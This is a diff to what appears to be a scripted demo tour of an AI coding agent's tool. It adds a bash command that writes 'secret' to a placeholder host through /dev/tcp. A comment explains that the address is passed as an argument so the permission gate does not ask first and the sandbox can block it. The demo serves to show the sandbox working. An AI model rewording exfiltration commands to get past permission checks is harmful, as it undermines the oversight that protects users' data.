@@ -98,7 +98,7 @@ const aboutKind = (facts: Facts): string => {
 	const names = pathsOf(facts.done.get('look-kind')).map((path) => path.split('/').at(-1)!)
 	const found = [...new Set(kinds.flatMap(([mark, kind]) => (names.some((name) => mark.test(name)) ? [kind] : [])))]
 	return found.length > 0
-		? `It looks like a project of ${found.join(' and ')}.`
+		? `It looks like a ${found.join(' and ')} project.`
 		: 'It holds none of the usual project files.'
 }
 
@@ -278,6 +278,9 @@ const aboutHidden = (facts: Facts): string => {
 		: 'It could see something there: the sandbox as set up on this machine does not hide it. /status says what runs commands.'
 }
 
+/** The address comes as an argument: written out as a redirection, the gate would ask before it ran, and the sandbox had nothing to show. */
+const networkCommand = `timeout 3 bash -c 'echo secret > "/dev/tcp/$0/443"' ${nobody}`
+
 const network: Step = {
 	name: 'net',
 	async reply(facts, setting) {
@@ -291,7 +294,7 @@ const network: Step = {
 				{
 					part: 'net-command',
 					name: 'bash',
-					input: { command: `timeout 3 bash -c 'echo secret > /dev/tcp/${nobody}/443'`, timeout_ms: 10_000 },
+					input: { command: networkCommand, timeout_ms: 10_000 },
 				},
 			],
 		}
@@ -317,6 +320,9 @@ async function dangerEnd(facts: Facts, setting: Setting): Promise<string> {
 	return (await setting.sandboxed()) ? aboutNetwork(facts) : join(refusedKey(facts), noSandbox)
 }
 
+/** The prompt of a played tour: its director shows, takes back and names the ways to a model after it. */
+export const directed = 'show me, then undo it'
+
 const takeBack = (facts: Facts): string =>
 	changed(facts)
 		? 'The change of this turn is still there: /diff shows it, /undo takes it back, /redo brings it again.'
@@ -335,7 +341,7 @@ const routes: Record<Intent, Route> = {
 				await dangerEnd(facts, setting),
 				'That was a whole turn: looked, searched, read, changed, ran, and was stopped where it should be. It is recorded as a session like any other.',
 				takeBack(facts),
-				threeWays,
+				facts.prompt === directed ? null : threeWays,
 			),
 	},
 	tests: {
